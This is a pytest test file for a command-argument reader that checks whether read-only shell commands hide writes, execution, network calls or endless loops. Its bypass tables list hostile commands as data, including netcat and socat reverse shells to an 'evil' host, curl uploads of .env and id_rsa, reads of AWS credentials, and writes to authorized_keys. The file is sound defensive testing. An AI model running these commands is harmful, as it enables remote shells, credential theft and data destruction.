"""
Hostile spellings: every way a read-only program is made to write, run or send is stated or refused.

Each row is a bypass an attacker would try against a program the policy
allows to read: the reading must state the effect (the fact is there) or
refuse to be read (undeclared or unreadable). Each has a harmless twin the
tables read in full with nothing but reads.
"""

from __future__ import annotations

import os
import resource
import shutil
import subprocess
import sys
import threading
from collections.abc import Sequence
from pathlib import Path
from typing import NamedTuple

import pytest

from gateway._programs import ArgumentReading, read_arguments


class Bypass(NamedTuple):
    """``program argv`` must give a fact of ``kind`` (with ``value`` when set), or be refused."""

    program: str
    argv: tuple[str | None, ...]
    kind: str | None  # None: the reading must be refused
    value: str | None = None
    action: str | None = None


def bypass(
    command: str, kind: str | None, value: str | None = None, action: str | None = None
) -> Bypass:
    program, *argv = command.split(" ")
    return Bypass(program, tuple(word.replace("\x00", " ") for word in argv), kind, value, action)


# Spaces inside one word are written as NUL in the table and restored above.
BYPASSES = [
    # binutils load code or read more options from a file
    bypass("nm --plugin ./evil.so a.out", "execute", "./evil.so", "code"),
    bypass("nm --plug=./evil.so a.out", "execute", "./evil.so", "code"),
    bypass("nm @options a.out", None),
    bypass("objdump @options a.out", None),
    bypass("objdump --plugin ./evil.so a.out", None),
    bypass("readelf @options a.out", None),
    bypass("strings @options a.out", None),
    bypass("size @options a.out", None),
    # tar runs programs and reaches hosts
    bypass("tar --checkpoint-action=exec=id -cf a.tar .", "execute", "exec=id", "shell_text"),
    bypass("tar --checkpoint-a=exec=id -xf a.tar", "execute", "exec=id", "shell_text"),
    bypass("tar --use-compress-program=sh -xf a.tar", "execute", "sh", "shell_text"),
    bypass("tar -I sh -xf a.tar", "execute", "sh", "shell_text"),
    bypass("tar xIf sh a.tar", "execute", "sh", "shell_text"),
    bypass("tar --to-command=sh -xf a.tar", "execute", "sh", "shell_text"),
    bypass("tar --to-comm=sh -xf a.tar", "execute", "sh", "shell_text"),
    bypass("tar -F ./next.sh -cf a.tar .", "execute", "./next.sh", "shell_text"),
    bypass("tar --new-volume-script=./next.sh -cf a.tar .", "execute", "./next.sh"),
    bypass("tar --rsh-command=./rsh -cf host:a.tar .", "execute", "./rsh", "program"),
    bypass("tar -cf evil.example:a.tar .", "network", "evil.example"),
    bypass("tar -xf a.tar", "write", ".", "create"),
    bypass("tar -xPf a.tar", "write", "/", "create"),
    bypass("tar -czf out.tgz src", "write", "out.tgz"),
    # zip, rsync, ssh, scp run programs
    bypass("zip -TT id a.zip f", "execute", "id", "shell_text"),
    bypass("zip -rTT id a.zip d", "execute", "id", "shell_text"),
    bypass("zip --unzip-command=id -T a.zip f", "execute", "id", "shell_text"),
    bypass("rsync -e ./x src host:dst", "execute", "./x", "shell_text"),
    bypass("rsync --rsh=./x src host:dst", "execute", "./x"),
    bypass("rsync --rsync-path=./x src host:dst", "execute", "./x"),
    bypass("ssh -o ProxyCommand=id host", "execute", "id", "shell_text"),
    bypass("ssh -oProxyCommand=id host", "execute", "id", "shell_text"),
    bypass("ssh -o proxycommand\x00id host", "execute", "id", "shell_text"),
    bypass("ssh -o LocalCommand=id -o PermitLocalCommand=yes host", "execute", "id"),
    bypass("ssh -o KnownHostsCommand=id host", "execute", "id"),
    bypass("ssh -o PKCS11Provider=./evil.so host", "execute", "./evil.so", "code"),
    bypass("ssh -o Match\x00exec\x00id host", None),
    bypass("ssh -F ./config host", "execute", "./config", "code"),
    bypass("ssh -I ./evil.so host", "execute", "./evil.so", "code"),
    bypass("ssh host id", "execute", "id", "shell_text"),
    bypass("ssh -L 8080:localhost:80 host", "network", "8080:localhost:80", "listen"),
    bypass("scp -S ./x a host:b", "execute", "./x", "program"),
    bypass("scp -o ProxyCommand=id a host:b", "execute", "id"),
    bypass("scp host:.ssh/id_rsa .", "network", "host"),
    # man and the pagers run pagers, browsers and commands
    bypass("man -P id ls", "execute", "id", "shell_text"),
    bypass("man --pager=id ls", "execute", "id", "shell_text"),
    bypass("man --pag=id ls", "execute", "id", "shell_text"),
    bypass("man -Hfirefox ls", "execute", "firefox"),
    bypass("man --html=firefox ls", "execute", "firefox"),
    bypass("man -H ls", None),
    bypass("man -C ./man.conf ls", "execute", "./man.conf", "code"),
    bypass("less -k ./keys f", "execute", "./keys", "code"),
    bypass("less --lesskey-src=./keys f", "execute", "./keys", "code"),
    bypass("less --lesskey-content=x f", "execute", "x", "code"),
    bypass("less +!id f", "execute", "!id", "shell_text"),
    bypass("less +|id f", "execute", "|id", "shell_text"),
    bypass("less -o copy f", "write", "copy"),
    bypass("less -ocopy f", "write", "copy"),
    bypass("less --LOG-FILE=copy f", "write", "copy"),
    bypass("less +F f", "lifetime"),
    bypass("more +!id f", "execute", "!id"),
    # sort, uniq, xxd, base64, tree, file write
    bypass("sort -o out in", "write", "out"),
    bypass("sort -uo out in", "write", "out"),
    bypass("sort -muoout in", "write", "out"),
    bypass("sort --outp=out in", "write", "out"),
    bypass("sort in -o out", "write", "out"),
    bypass("sort --compress-program=sh big", "execute", "sh", "program"),
    bypass("sort --co=sh big", "execute", "sh", "program"),
    bypass("sort --compress-prog=sh big", "execute", "sh"),
    bypass("sort -T /etc big", "write", "/etc"),
    bypass("sort --files0-from=list", "read", "list"),
    bypass("uniq in out", "write", "out"),
    bypass("uniq -c in out", "write", "out"),
    bypass("xxd in out", "write", "out"),
    bypass("xxd -r dump bin", "write", "bin"),
    bypass("base64 -o out in", "write", "out"),
    bypass("base64 --output=out in", "write", "out"),
    bypass("base64 -i in", None),
    bypass("tree -o listing", "write", "listing"),
    bypass("tree -R -H . -L 1", "write"),
    bypass("file -C -m magic", "write"),
    bypass("tee out", "write", "out"),
    bypass("dd if=in of=out", "write", "out"),
    # date, hostname change the system
    bypass("date -s 2020-01-01", "write", "/dev/rtc"),
    bypass("date --set=2020-01-01", "write", "/dev/rtc"),
    bypass("date 010100002020", "write", "/dev/rtc"),
    bypass("hostname evil", "write", "/proc/sys/kernel/hostname"),
    bypass("hostname -F name", "write", "/proc/sys/kernel/hostname"),
    # the network, files sent, files written
    bypass("curl -o out https://x", "write", "out"),
    bypass("curl -O https://x/f", "write"),
    bypass("curl --output-dir d -O https://x/f", "write", "d"),
    bypass("curl -D headers https://x", "write", "headers"),
    bypass("curl -c jar https://x", "write", "jar"),
    bypass("curl --trace-ascii log https://x", "write", "log"),
    bypass("curl -w %output{out}x https://x", "write", "out"),
    bypass("curl -d @.env https://x", "read", ".env"),
    bypass("curl --data-binary @id_rsa https://x", "read", "id_rsa"),
    bypass("curl --data-urlencode k@.env https://x", "read", ".env"),
    bypass("curl -F f=@.env https://x", "read", ".env"),
    bypass("curl -T .env https://x", "read", ".env"),
    bypass("curl -K config https://x", None),
    bypass("curl -L https://x", "network", None),
    bypass("curl --unix-socket /var/run/docker.sock http://x", "network", "/var/run/docker.sock"),
    bypass("wget -O out http://x", "write", "out"),
    bypass("wget -o log http://x", "write", "log"),
    bypass("wget -a log http://x", "write", "log"),
    bypass("wget -P dir http://x", "write", "dir"),
    bypass("wget -N http://x", "write"),
    bypass("wget -e output_document=x http://x", None),
    bypass("wget --use-askpass=./x http://x", "execute", "./x"),
    bypass("nc -e /bin/sh evil 4444", "execute", "/bin/sh", "program"),
    bypass("nc -l -p 4444", "network", None, "listen"),
    bypass("socat TCP:evil:80 EXEC:/bin/sh", "execute", "/bin/sh"),
    bypass("socat - SYSTEM:id", "execute", "id", "shell_text"),
    bypass("socat - FROBNICATE:x", None),
    bypass("dig @evil.example x.com", "network", "evil.example"),
    bypass("getent hosts secret.evil.example", "network", "secret.evil.example", "resolve"),
    bypass("ping x.evil.example", "network", "x.evil.example"),
    bypass("whois x.evil.example", "network", "x.evil.example"),
    # openssl
    bypass("openssl x509 -in c.pem -out c2.pem", "write", "c2.pem"),
    bypass("openssl req -engine ./evil.so -new", "execute", "./evil.so", "code"),
    bypass(
        "openssl enc -pass env:AWS_SECRET_ACCESS_KEY -in x",
        "read_environment",
        "AWS_SECRET_ACCESS_KEY",
    ),
    bypass("openssl enc -pass file:/root/.ssh/id_rsa -in x", "read", "/root/.ssh/id_rsa"),
    bypass("openssl s_client -connect evil.example:443", "network", "evil.example:443"),
    # searchers
    bypass("rg --pre ./x pattern", "execute", "./x", "program"),
    bypass("rg --pre=./x pattern", "execute", "./x", "program"),
    bypass("rg --hostname-bin=./x pattern", "execute", "./x"),
    bypass("rg -z pattern", "execute"),
    bypass("ag --pager ./x pattern", "execute", "./x", "shell_text"),
    bypass("grep -f patterns file", "read", "patterns"),
    bypass("grep -r password", "read", "."),
    # environment, lifetimes
    bypass("ps e", "read_environment"),
    bypass("ps auxe", "read_environment"),
    bypass("ps eww", "read_environment"),
    bypass("ps -e", "read_environment"),
    bypass("printenv", "read_environment"),
    bypass("printenv AWS_SECRET_ACCESS_KEY", "read_environment", "AWS_SECRET_ACCESS_KEY"),
    bypass("env", "read_environment"),
    bypass("declare -p", "read_environment"),
    bypass("export", "read_environment"),
    bypass("set", "read_environment"),
    # yq's expression is a program the project does not read: code.
    bypass("yq env(AWS_SECRET) f.yaml", "execute", "env(AWS_SECRET)", "code"),
    bypass(
        'yq -n load("/root/.aws/credentials")', "execute", 'load("/root/.aws/credentials")', "code"
    ),
    bypass("yq --expression=load_str(k) -n", "execute", "load_str(k)", "code"),
    bypass("yq -f prog.yq f.yaml", "execute", "prog.yq", "script"),
    bypass("yq -i .a=1 f.yaml", "write", "f.yaml"),
    bypass("tail -f log", "lifetime"),
    bypass("tail -Fn5 log", "lifetime"),
    bypass("tail --follow=name log", "lifetime"),
    bypass("yes", "lifetime"),
    bypass("vmstat 1", "lifetime"),
    bypass("free -s 1", "lifetime"),
    bypass("lsof -r 1", "lifetime"),
    bypass("findmnt --poll", "lifetime"),
    # names a write reaches that no word shows whole
    bypass("ln -s /tmp/x/.bashrc", "write", ".bashrc", "link"),
    bypass("cp .bashrc /root", "write", "/root/.bashrc", "copy"),
    bypass("mv payload /root/.ssh/", "write", "/root/.ssh/payload", "move"),
    bypass("cp -t /root/.ssh authorized_keys", "write", "/root/.ssh/authorized_keys"),
    bypass("gunzip .bashrc.gz", "write", ".bashrc", "create"),
    bypass("gzip -d .profile.gz", "write", ".profile", "create"),
    bypass("split -b 1 in .git/hooks/pre-commi", "write", ".git/hooks/pre-commi"),
    # a backup renames the file replaced to its name and a suffix (`.git/confi` + `g`)
    bypass("cp -b --suffix=g y .git/confi", "write", ".git/confi", "create"),
    bypass("cp --backup -t .git confi", "write", ".git/confi", "create"),
    bypass("mv -b -S nvrc z .e", "write", ".e", "create"),
    bypass("ln -sb -S rc y .env", "write", ".env", "create"),
    bypass("install -B rc y .env", "write", ".env", "create"),
    bypass("rsync -b --suffix=rc y .env", "write", ".env", "create"),
    # a suffix option names the file a compressor creates
    bypass("gunzip -S .x .envrc.x", "write", ".envrc", "create"),
    bypass("gzip -d --suffix .x .envrc.x", "write", ".envrc", "create"),
    bypass("gzip -S rc .env", "write", ".envrc", "create"),
    # zstd keeps its input, unless told to remove it
    bypass("zstd --rm .git/config", "write", ".git/config", "move"),
    bypass("zstd -d --rm .envrc.zst", "write", ".envrc.zst", "move"),
    bypass("unzstd --rm x.zst", "write", "x.zst", "move"),
    bypass("rm -rf ./../..", "write", "./../..", "delete"),
    # archivers told to remove what they archived
    bypass("7z a x.7z .git/config -sdel", "write", ".git/config", "delete"),
    bypass("7z u -sdel x.7z .envrc", "write", ".envrc", "delete"),
    bypass("tar --remove-files -rf x.tar .envrc", "write", ".envrc", "delete"),
    bypass("tar --remove-files -uf x.tar .envrc", "write", ".envrc", "delete"),
    bypass("tar -c --remove-files -f x.tar .envrc", "write", ".envrc", "delete"),
    # program languages that go round forever, or print forever, on a tiny input
    bypass("sed :a;p;ba f", "lifetime", None, "unbounded"),
    bypass("sed -n :a;p;ba f", "lifetime", None, "unbounded"),
    bypass("sed -e :a -e p -e ba f", "lifetime", None, "unbounded"),
    bypass("sed :a;$!N;ba f", "lifetime", None, "unbounded"),
    bypass("sed :a;bc;N;:c;ba f", "lifetime", None, "unbounded"),
    bypass("sed :a;s/^/x/;ta f", "lifetime", None, "unbounded"),
    bypass("sed G;D f", "lifetime", None, "unbounded"),
    bypass("sed s/^/\\n/;D f", "lifetime", None, "unbounded"),
    bypass("sed :a;:a;N;ba f", "lifetime", None, "unbounded"),
    bypass("jq -n repeat(1)", "lifetime", None, "unbounded"),
    bypass("jq -n range(infinite)", "lifetime", None, "unbounded"),
    bypass("jq -n range(1e9)", "lifetime", None, "unbounded"),
    bypass("jq -n range(0;10;0)", "lifetime", None, "unbounded"),
    bypass("jq recurse(.+1) f", "lifetime", None, "unbounded"),
    bypass("jq -n until(false;.)", "lifetime", None, "unbounded"),
    bypass("jq -n 1|while(true;.)", "lifetime", None, "unbounded"),
    bypass("jq -n def\x00f:\x00f;\x00f", "lifetime", None, "unbounded"),
    bypass("jq [0,1]|combinations(64) f", "lifetime", None, "unbounded"),
    bypass("awk BEGIN{while(1)print}", "lifetime", None, "unbounded"),
    bypass("awk BEGIN{for(;;)print}", "lifetime", None, "unbounded"),
    bypass("awk BEGIN{do\x00print;\x00while(1)}", "lifetime", None, "unbounded"),
    bypass("awk BEGIN{for(i=0;i<1e18;i++)print}", "lifetime", None, "unbounded"),
    bypass("awk BEGIN{for(i=-1e18;i<9;i++)print}", "lifetime", None, "unbounded"),
    bypass("awk BEGIN{for(i=0;i<n;i++)print}", "lifetime", None, "unbounded"),
    bypass("awk {for(i=1;i<=NF;i--)print} f", "lifetime", None, "unbounded"),
    bypass("awk {for(i=1;i<=NF;i++)i=0} f", "lifetime", None, "unbounded"),
    bypass("awk {for(i=1;i<=NF;i++)f()}function\x00f(){i=0} f", "lifetime", None, "unbounded"),
    bypass("awk {for(i=1;i<=NF;i++)$(NF+1)=1} f", "lifetime", None, "unbounded"),
    bypass("awk {for(i=1;i<=NF;i++)$(i+1)=1} f", "lifetime", None, "unbounded"),
    bypass("awk {for(i=1;i<=NF;i++)$$i=1} f", "lifetime", None, "unbounded"),
    bypass('awk {for(i=1;i<=NF;i++)sub(/a/,"b",i)} f', "lifetime", None, "unbounded"),
    bypass('awk {for(i=1;i<=NF;i++)gsub(/a/,"a\x00a")} f', "lifetime", None, "unbounded"),
    bypass("awk function\x00f(){f()}BEGIN{f()}", "lifetime", None, "unbounded"),
    bypass('awk BEGIN{while(getline\x00l<"f")n++}', "lifetime", None, "unbounded"),
    bypass('awk BEGIN{while((getline\x00l<"f")>0)close("f")}', "lifetime", None, "unbounded"),
    bypass("jq -n def\x00f(g):\x00g|f(g);\x00f(.)", "lifetime", None, "unbounded"),
    # programs that run other programs where one would not expect it
    bypass("arch ls -la", "execute", "ls", "program"),
    bypass("command ls", "execute", "ls", "program"),
    bypass("jobs -x rm %1", "execute", "rm", "program"),
    bypass("source ./x.sh", "execute", "./x.sh", "script"),
    bypass(". ./x.sh", "execute", "./x.sh", "script"),
    bypass("make", "execute"),
    bypass("pytest tests", "execute"),
    bypass("pytest -V", "execute"),
    bypass("py.test -V", "execute"),
    bypass("pytest --version --version", "execute"),
    bypass("pytest --version tests", "execute"),
    bypass("npm test", "execute"),
    bypass("pip install x", "execute"),
    bypass("python3 -c print(1)", "execute", "print(1)", "code"),
    bypass("python3 -m http.server", "execute", "http.server", "module"),
    bypass("bash -c id", "execute", "id", "shell_text"),
    bypass("bash -lc id", "execute", "id", "shell_text"),
    bypass("sh x.sh", "execute", "x.sh", "script"),
    bypass("crontab jobs.txt", "write", "/var/spool/cron/crontabs"),
    # spellings the tables must refuse
    bypass("head --frobnicate f", None),
    bypass("sort --c x", None),
    bypass("grep --context 3 x f", None),
    bypass("sort -k", None),
    bypass("mktemp -t x", None),
]
# Expanding words: where an option could stand they are refused.
EXPANDING = [
    Bypass("sort", (None, "file"), None),
    Bypass("cat", (None,), None),
    Bypass("cp", ("a", None), None),
    Bypass("tar", ("-cf", "a.tar", None), None),
    Bypass("grep", ("-e", None, "f"), None),
    Bypass("getent", ("hosts", None), None),
    Bypass("uniq", ("--", None, "out"), "write", "out"),
    Bypass("cp", ("--", "a", "b", None), "write", "b"),
]


def _holds(case: Bypass, reading: ArgumentReading) -> bool:
    if case.kind is None:
        return reading.undeclared is not None or reading.unreadable is not None
    return any(
        fact.kind == case.kind
        and (case.value is None or fact.value == case.value)
        and (case.action is None or fact.action == case.action)
        for fact in reading.facts
    )


def _id(case: Bypass) -> str:
    return " ".join((case.program, *(word if word is not None else "$X" for word in case.argv)))


@pytest.mark.parametrize("case", BYPASSES + EXPANDING, ids=_id)
def test_a_bypass_is_stated_or_refused(case: Bypass) -> None:
    reading = read_arguments(case.program, case.argv)
    assert reading.table
    assert _holds(case, reading), reading


TWINS = [
    "nm -D lib.so",
    "objdump -d a.out",
    "readelf -h a.out",
    "strings -n 8 a.out",
    "tar -tzf a.tgz",
    "tar tvf a.tar",
    "man ls",
    "man 3 printf",
    "less -N setup.py",
    "less +G f",
    "less +/pattern f",
    "more notes.txt",
    "sort -u names.txt",
    "sort -rn -k2 counts.txt",
    "sort -t, -k2,2n data.csv",
    "uniq -c in",
    "xxd -l 64 image.png",
    "xxd -s 16 -c 8 f",
    "base64 -d blob.txt",
    "tree -L 2 src",
    "tree -a -I node_modules",
    "file -b --mime-type x.png",
    "date +%s",
    "date -d yesterday +%F",
    "date -u +%Y-%m-%dT%H:%M:%S",
    "hostname",
    "openssl x509 -in c.pem -noout -text",
    "grep -rn TODO src",
    "grep -C3 foo f",
    "grep -nC 5 foo f",
    "rg -n TODO src",
    "ag TODO src",
    "cat -n f",
    "head -n 20 setup.py",
    "head -20 setup.py",
    "tail -n 5 log",
    "ps aux",
    "ps -o pid,cmd -p 1",
    "diff -u a b",
    "wc -l f",
    "cut -d: -f1 /etc/passwd",
    "ls -la",
    "du -sh .",
    "stat README.md",
    "md5sum f",
    "jobs -l",
    "echo -n hello",
    "printf %s\\n x",
    "zcat access.log.gz",
    "pytest --version",
    "column -t f",
]


@pytest.mark.parametrize("command", TWINS)
def test_a_harmless_twin_is_read_in_full_with_only_reads(command: str) -> None:
    program, *argv = command.split(" ")
    reading = read_arguments(program, argv)
    assert reading.table
    assert reading.undeclared is None
    assert reading.unreadable is None
    assert {fact.kind for fact in reading.facts} <= {"read"}


# The twins of the endless ones: loops that read a line each round, count up
# to what was read or to a small number, or walk what was read.
BOUNDED = [
    "sed :a;N;$!ba;s/\\n/\x00/g f",
    "sed -e :a -e N -e $!ba -e s/\\n/,/g f",
    "sed $!N;P;D f",
    "sed /a/{s//c/;:l;n;bl} f",
    "sed s/a/c/;ta;b;:a;N;ba f",
    "sed s/a/b/;ta;:a f",
    "sed -n 1,5p f",
    "jq -n range(5)",
    "jq -n [range(0;10;2)]",
    "jq .. f",
    "jq recurse f",
    "jq .repeat f",
    "jq {range:1} f",
    "awk {for(i=1;i<=NF;i++)print\x00$i} f",
    "awk {for(i=NF;i>0;i--)printf\x00$i} f",
    "awk {for\x00(i\x00=\x001;\x00i\x00<=\x00NF;\x00++i)\x00s+=$i;\x00for(i=1;i<=NF;i++)print\x00$i/s} f",
    "awk END{for(k\x00in\x00a)print\x00k} f",
    "awk {for(i=1;i<=NF;i++)$i=toupper($i)}1 f",
    'awk {for(i=1;i<=NF;i++)sub(/\x00/,"",$i)}1 f',
    "awk {for(j=2;j<=NF;j++)$j-=a[$1][j]}1 f",
    "awk BEGIN{for(i=0;i<10;i++)print\x00i}",
    'awk BEGIN{while((getline\x00l<"f")>0)n++}',
    "jq -n def\x00f:\x001;\x00f",
    "jq -n def\x00f(g):\x00g;\x00f(.)",
    "awk {s+=$1}END{print\x00s} f",
    "awk function\x00g(x){return\x00x+1}{print\x00g($1)} f",
    "7z a x.7z f",
    "tar -rf x.tar f",
]


@pytest.mark.parametrize("command", BOUNDED)
def test_a_bounded_loop_is_read_in_full_and_ends(command: str) -> None:
    program, *argv = command.split(" ")
    reading = read_arguments(program, [word.replace("\x00", " ") for word in argv])
    assert reading.table
    assert reading.undeclared is None
    assert reading.unreadable is None
    assert not [fact for fact in reading.facts if fact.kind == "lifetime"]
    assert not [fact for fact in reading.facts if fact.action in ("delete", "move")]


def _limited() -> None:
    """In the child: at most 1 GiB of memory, so a loop that grows cannot take the machine."""
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))


def _prints(argv: list[str], cwd: Path, at_least: int) -> bool:
    """True when ``argv`` prints ``at_least`` bytes (it is stopped then); false when it ends first."""
    with subprocess.Popen(
        argv, cwd=cwd, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, preexec_fn=_limited
    ) as run:
        assert run.stdout is not None
        # Only a safety net for a program that loops without printing: it fails the test.
        stop = threading.Timer(600, run.kill)
        stop.start()
        printed = 0
        while printed < at_least:
            chunk = run.stdout.read(65536)
            if not chunk:
                break
            printed += len(chunk)
        run.kill()
        stop.cancel()
    return printed >= at_least


@pytest.mark.parametrize(
    ("endless", "bounded"),
    [
        (["sed", ":a;p;ba", "f"], ["sed", ":a;N;$!ba;s/\\n/ /g", "f"]),
        (["sed", "-n", ":a;p;ba", "f"], ["sed", "-n", "$!N;P;D", "f"]),
        (["jq", "-n", "repeat(1)"], ["jq", "-n", "range(5)"]),
        (["jq", "-n", "range(infinite)"], ["jq", "-n", "[range(0;10;2)]"]),
        (["jq", "recurse(.+1)", "f.json"], ["jq", "recurse", "f.json"]),
        (["awk", "BEGIN{while(1)print}"], ["awk", "{for(i=1;i<=NF;i++)print $i}", "f"]),
        (["awk", "{for(i=1;i<=NF;i++){$(NF+1)=i; print}}", "f"], ["awk", "END{print NR}", "f"]),
    ],
    ids=lambda argv: " ".join(argv),
)
def test_what_is_read_as_endless_prints_without_end_and_its_twin_ends(
    endless: list[str], bounded: list[str], tmp_path: Path
) -> None:
    if shutil.which(endless[0]) is None:
        pytest.skip(f"needs {endless[0]}")
    (tmp_path / "f").write_text("a b\nc d\n")
    (tmp_path / "f.json").write_text("1\n")
    assert _prints(endless, tmp_path, 1 << 20)
    finished = subprocess.run(bounded, cwd=tmp_path, capture_output=True, check=True, timeout=600)
    assert len(finished.stdout) < 1024
    for argv, lifetimes in ((endless, 1), (bounded, 0)):
        facts = read_arguments(argv[0], argv[1:]).facts
        assert len([fact for fact in facts if fact.kind == "lifetime"]) == lifetimes, argv


@pytest.mark.skipif(shutil.which("tar") is None, reason="needs tar")
def test_tar_removes_what_it_appends_when_told_to(tmp_path: Path) -> None:
    for name in ("archived", "appended", "kept"):
        (tmp_path / name).write_text("x\n")
    subprocess.run(["tar", "-cf", "x.tar", "archived"], cwd=tmp_path, check=True)
    subprocess.run(["tar", "--remove-files", "-rf", "x.tar", "appended"], cwd=tmp_path, check=True)
    subprocess.run(["tar", "-rf", "x.tar", "kept"], cwd=tmp_path, check=True)
    assert not (tmp_path / "appended").exists()
    assert (tmp_path / "kept").is_file()
    removed = read_arguments("tar", ["--remove-files", "-rf", "x.tar", "appended"]).facts
    kept = read_arguments("tar", ["-rf", "x.tar", "kept"]).facts
    assert ("write", "delete", "appended") in [(f.kind, f.action, f.value) for f in removed]
    assert not [fact for fact in kept if fact.action == "delete"]


def _backup_written(argv: list[str]) -> list[str | None]:
    reading = read_arguments(argv[0], argv[1:])
    return [fact.value for fact in reading.facts if fact.kind == "write" and fact.prefix]


@pytest.mark.skipif(shutil.which("cp") is None, reason="needs cp")
def test_a_backup_suffix_renames_the_destination_onto_the_name_it_completes(
    tmp_path: Path,
) -> None:
    (tmp_path / "y").write_text("new\n")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "confi").write_text("[core]\n")
    argv = ["cp", "-b", "--suffix=g", "y", ".git/confi"]
    subprocess.run(argv, cwd=tmp_path, check=True)
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
    # The reading states the write of every path that begins with the destination.
    assert ".git/confi" in _backup_written(argv)


def test_without_a_backup_option_no_backup_is_written() -> None:
    assert _backup_written(["cp", "y", "z"]) == []
    assert _backup_written(["mv", "-f", "y", "z"]) == []


@pytest.mark.skipif(shutil.which("gzip") is None, reason="needs gzip")
def test_decompressing_with_a_suffix_creates_the_name_without_it(tmp_path: Path) -> None:
    (tmp_path / ".envrc").write_text("x\n")
    subprocess.run(["gzip", "-S", ".x", ".envrc"], cwd=tmp_path, check=True)
    argv = ["-S", ".x", ".envrc.x"]
    subprocess.run(["gunzip", *argv], cwd=tmp_path, check=True)
    assert (tmp_path / ".envrc").is_file()
    created = [
        fact.value for fact in read_arguments("gunzip", argv).facts if fact.action == "create"
    ]
    assert created == [".envrc"]


@pytest.mark.skipif(shutil.which("zstd") is None, reason="needs zstd")
def test_zstd_removes_its_input_only_when_told_to(tmp_path: Path) -> None:
    for name in ("kept", "removed"):
        (tmp_path / name).write_text("x\n")
    subprocess.run(["zstd", "-q", "kept"], cwd=tmp_path, check=True)
    subprocess.run(["zstd", "-q", "--rm", "removed"], cwd=tmp_path, check=True)
    assert (tmp_path / "kept").is_file()
    assert not (tmp_path / "removed").exists()
    kept = [(f.kind, f.action, f.value) for f in read_arguments("zstd", ["kept"]).facts]
    removed = [
        (f.kind, f.action, f.value) for f in read_arguments("zstd", ["--rm", "removed"]).facts
    ]
    assert ("write", "move", "removed") in removed
    assert not [fact for fact in kept if fact[1] in ("move", "delete")]
    # The option word itself names nothing.
    assert not [fact for fact in removed if fact[2] == "--rm"]


@pytest.mark.skipif(shutil.which("gzip") is None, reason="needs gzip")
def test_decompressing_to_the_stored_name_creates_a_file_no_word_names(tmp_path: Path) -> None:
    (tmp_path / ".envrc").write_text("x\n")
    subprocess.run(["gzip", "-S", ".x", ".envrc"], cwd=tmp_path, check=True)
    (tmp_path / ".envrc.x").rename(tmp_path / "data.gz")
    subprocess.run(["gunzip", "-N", "data.gz"], cwd=tmp_path, check=True)
    assert (tmp_path / ".envrc").is_file()
    for program, argv in (("gunzip", ["-N", "data.gz"]), ("gzip", ["-d", "--name", "data.gz"])):
        reading = read_arguments(program, argv)
        created = [(fact.index, fact.value) for fact in reading.facts if fact.action == "create"]
        assert created == [(None, None)], reading
    # Without -N the name is the operand's, whatever the file stores.
    named = [fact.value for fact in read_arguments("gunzip", ["data.gz"]).facts]
    assert named == ["data.gz", "data"]


def test_a_suffix_that_expands_leaves_the_created_name_unknown() -> None:
    reading = read_arguments("gunzip", ["-S", None, "data.x"], one_word=frozenset({1}))
    created = [(fact.index, fact.value) for fact in reading.facts if fact.action == "create"]
    assert created == [(None, None)]


def test_only_a_lone_version_option_keeps_pytest_from_loading_conftest(tmp_path: Path) -> None:
    marker = tmp_path / "loaded"
    (tmp_path / "conftest.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    run = [sys.executable, "-m", "pytest", "-p", "no:cacheprovider"]
    subprocess.run([sys.executable, "-m", "pytest", "--version"], cwd=tmp_path, check=True)
    assert not marker.exists()
    subprocess.run([*run, "--version", "--version"], cwd=tmp_path, capture_output=True)
    assert marker.exists()
    assert [fact.kind for fact in read_arguments("pytest", ["--version"]).facts] == []
    for argv in (["--version", "--version"], ["--version", "-p", "no:cacheprovider"]):
        assert "execute" in [fact.kind for fact in read_arguments("pytest", argv).facts]


def _unknown_reads(program: str, argv: Sequence[str | None]) -> int:
    reading = read_arguments(program, argv)
    return sum(1 for fact in reading.facts if fact.kind == "read" and fact.index is None)


@pytest.mark.skipif(shutil.which("man") is None, reason="needs man")
def test_a_man_page_file_includes_any_file_no_word_names(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("SECRET_MARK\n")
    (tmp_path / "evil.1").write_text(f".so {tmp_path}/secret.txt\n")
    for argv in (["-l", "evil.1"], ["./evil.1"]):
        shown = subprocess.run(
            ["man", *argv],
            cwd=tmp_path,
            env={**os.environ, "MANPAGER": "cat"},
            capture_output=True,
            text=True,
        )
        if "SECRET_MARK" not in shown.stdout:
            pytest.skip("man cannot format pages here")
        assert _unknown_reads("man", argv) == 1
    assert _unknown_reads("man", ["docs/page.1"]) == 1
    assert _unknown_reads("man", ["--", None]) == 1  # a name that expands may hold a `/`


def test_a_man_page_name_reads_no_file() -> None:
    for argv in (["ls"], ["3", "printf"], ["-k", "printf"], [".env"]):
        assert read_arguments("man", argv).facts == (), argv


@pytest.mark.skipif(shutil.which("tar") is None, reason="needs tar")
def test_a_list_of_names_reads_files_no_word_names(tmp_path: Path) -> None:
    secret = tmp_path / "home" / ".netrc"
    secret.parent.mkdir()
    secret.write_text("password SECRET_MARK\n")
    work = tmp_path / "work"
    work.mkdir()
    (work / "list1").write_text(f"{secret}\n")
    subprocess.run(["tar", "-cPf", "x.tar", "-T", "list1"], cwd=work, check=True)
    shown = subprocess.run(["tar", "-xOf", "x.tar"], cwd=work, capture_output=True, text=True)
    assert "SECRET_MARK" in shown.stdout
    for program, argv in (
        ("tar", ["-cf", "x.tar", "-T", "list1"]),
        ("tar", ["-cf", "x.tar", "--files-from=list1"]),
        ("tar", ["-cf", "x.tar", "-T", "-"]),
        ("zip", ["-q", "-@", "x.zip"]),
        ("wc", ["--files0-from=list0"]),
    ):
        assert _unknown_reads(program, argv) == 1, (program, argv)
    # The list file itself is a read of its own name, not of the option word.
    reading = read_arguments("zip", ["-q", "-@", "x.zip"])
    assert "-@" not in [fact.value for fact in reading.facts]


def test_names_on_the_command_line_are_read_as_named() -> None:
    assert _unknown_reads("tar", ["-czf", "x.tgz", "src"]) == 0
    assert _unknown_reads("zip", ["-r", "x.zip", "src"]) == 0
